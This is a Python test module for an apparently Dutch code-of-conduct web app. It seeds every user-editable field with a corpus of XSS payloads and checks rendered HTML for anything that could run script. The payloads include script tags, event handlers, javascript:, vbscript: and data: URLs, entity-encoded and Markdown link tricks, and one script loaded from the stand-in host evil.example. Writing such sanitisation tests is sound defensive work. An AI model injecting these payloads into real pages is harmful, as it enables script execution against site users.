"""A corpus of XSS payloads, a code full of them, and a check of the HTML a page sends.

Every payload that ran would call `__xss(n)` or `alert(n)`: the browser test counts those
calls; the server-side check looks for what could make them (script, handlers, bad URLs).
"""

import datetime
from html.parser import HTMLParser

from codeapp.models import CodeProfile
from codeapp.versions.services import version_publish
from core.services import item_create, item_update
from norms.models import Example, Norm
from reflection.models import Case, Proposal, Session
from reflection.services.proposals import proposal_create, proposal_submit
from values.models import Value

PAYLOADS = [
    "<script>__xss(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=__xss(2)>",
    '<img src="x" onerror="alert(3)">',
    "<svg onload=__xss(4)>",
    "<svg><script>__xss(5)</script></svg>",
    "<body onload=__xss(6)>",
    "<iframe src=javascript:__xss(7)></iframe>",
    '<iframe srcdoc="<script>parent.__xss(8)</script>"></iframe>',
    "<input autofocus onfocus=__xss(9)>",
    "<details open ontoggle=__xss(10)>",
    '<a href="javascript:__xss(11)">klik</a>',
    '<a href="&#106;avascript:__xss(12)">klik</a>',
    '<a href="jav&#x09;ascript:__xss(13)">klik</a>',
    "[klik](javascript:__xss(14))",
    "[klik](JaVaScRiPt:__xss(15))",
    "[klik]( javascript:__xss(16) )",
    "[klik](javascript&#58;__xss(17))",
    "[klik](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoMTgpPC9zY3JpcHQ+)",
    "[klik](vbscript:msgbox(19))",
    "![x](javascript:__xss(20))",
    '![x](x" onerror="__xss(21))',
    '[klik](https://example.org" onclick="__xss(22))',
    "<javascript:__xss(23)>",
    "[ref]\n\n[ref]: javascript:__xss(24)",
    '"><script>__xss(25)</script>',
    "'><img src=x onerror=__xss(26)>",
    "</textarea><script>__xss(27)</script>",
    "</title><script>__xss(28)</script>",
    "{{ 7*7 }} {% if 1 %}__xss(29){% endif %} ${__xss(30)}",
    "\\u003cscript\\u003e__xss(31)\\u003c/script\\u003e",
    "&lt;script&gt;__xss(32)&lt;/script&gt;",
    "<scr<script>ipt>__xss(33)</scr</script>ipt>",
    "<math><mtext><table><mglyph><style><img src=x onerror=__xss(34)>",
    "<object data=javascript:__xss(35)></object>",
    "<embed src=javascript:__xss(36)>",
    "<form action=javascript:__xss(37)><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:__xss(38)'>",
    "<base href=javascript:__xss(39)//>",
    '<div style="background:url(javascript:__xss(40))">x</div>',
    "<a href=x onmouseover=__xss(41)>x</a>",
    "`<script>__xss(42)</script>`\n\n    <script>__xss(43)</script>",
    "**<img src=x onerror=__xss(44)>**",
    '<https://example.org/"onmouseover="__xss(45)>',
]
# Every Markdown text gets them all; a one-line field (name, title) one each, in turn.
ALL = "\n\n".join(PAYLOADS)


def one(n: int, limit: int = 200) -> str:
    return PAYLOADS[n % len(PAYLOADS)][:limit]


def lines(text: str) -> str:
    return " ".join(text.split())


def build(editor, officer) -> dict:
    """A code whose every field users type carries payloads, published twice, with reflection."""
    profile = CodeProfile.current()
    item_update(
        item=profile, expected_revision=profile.revision, user=editor, reason=one(0, 500),
        changes={"title": one(1, 300), "preamble": ALL},
    )  # fmt: skip
    norms = []
    for v in range(3):
        value = item_create(
            item=Value(name=lines(one(v * 5)), description=ALL), user=editor, reason=one(v)
        )
        for n in range(2):
            norm = item_create(
                item=Norm(
                    value=value, title=lines(one(v * 5 + n + 1, 300)), text=ALL, kind="obligation",
                    explanation=ALL, legal_basis=PAYLOADS[:10],
                ),
                user=editor, reason=one(n + 7),
            )  # fmt: skip
            item_create(
                item=Example(
                    norm=norm, title=lines(one(v * 5 + n + 3, 300)), situation=ALL, guidance=ALL
                ),
                user=editor, reason=one(n + 9),
            )  # fmt: skip
            norms.append(norm)
    version_publish(
        user=officer, effective_from=datetime.date(2025, 1, 1), established_by=one(11, 300),
        change_summary=ALL, retroactive=True, retroactive_reason=ALL,
    )  # fmt: skip
    norm = norms[0]
    item_update(
        item=norm, expected_revision=norm.revision, user=editor, reason=ALL[:500],
        changes={"text": "Nieuw. " + ALL[::-1][:3000] + ALL, "title": lines(one(12, 300))},
    )  # fmt: skip
    version_publish(
        user=officer, effective_from=datetime.date(2025, 6, 1), established_by=one(13, 300),
        change_summary=ALL, retroactive=True, retroactive_reason=ALL,
    )  # fmt: skip
    # A change in the draft since, for the draft's comparison and the publish page.
    other = norms[1]
    item_update(
        item=other, expected_revision=other.revision, user=editor, reason=one(20, 500),
        changes={"text": ALL + "\n\nMeer.", "title": lines(one(21, 300))},
    )  # fmt: skip
    case = Case.objects.create(
        title=lines(one(14, 300)), situation=ALL, question=ALL, created_by=editor
    )
    session = Session.objects.create(
        title=lines(one(15, 300)), date=datetime.date(2025, 3, 1), format="dilemma", held=True,
        external_facilitator=one(16, 200), participant_groups=one(17, 300), insights=ALL,
    )  # fmt: skip
    session.cases.add(case)
    proposal = proposal_create(
        proposal=Proposal(
            title=lines(one(18, 300)), action="reword", target="norm", norm=norm,
            proposed={"title": lines(one(19, 300)), "text": ALL}, rationale=ALL,
            origin="session", session=session, case=case,
        ),
        user=editor,
    )  # fmt: skip
    proposal_submit(proposal=proposal, user=editor)
    return {"norm": norm, "case": case, "session": session, "proposal": proposal}


# --- the check of a page's HTML --------------------------------------------------------------

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "background", "srcdoc"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")
NEVER = {"iframe", "object", "embed", "svg", "math", "base", "style", "frame", "img"}


class Elements(HTMLParser):
    """What a browser would build: (tag, attributes, inline script text)."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict]] = []
        self.script_text: list[str] = []
        self._in_script = False
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, {name: value or "" for name, value in attrs}))
        self._in_script = tag == "script"

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script and data.strip():
            self.script_text.append(data)


def dangers(html: str) -> list[str]:
    """Everything in the page that could run a script; empty for a safe page."""
    parsed = Elements(html)
    found = [f"inline script: {text[:60]!r}" for text in parsed.script_text]
    for tag, attrs in parsed.found:
        if tag == "script" and not attrs.get("src", "").startswith("/static/"):
            found.append(f"script from {attrs.get('src')!r}")
        if tag in NEVER:
            found.append(f"<{tag}>")
        if tag == "meta" and "http-equiv" in attrs:
            found.append("<meta http-equiv>")
        for name, value in attrs.items():
            if name.startswith("on"):
                found.append(f"<{tag} {name}=…>")
            if name == "style":
                found.append(f"<{tag} style=…>")
            plain = "".join(ch for ch in value if ch.isprintable() and not ch.isspace()).lower()
            if name in URL_ATTRIBUTES and plain.startswith(BAD_SCHEMES):
                found.append(f"<{tag} {name}={value[:40]!r}>")
    return found
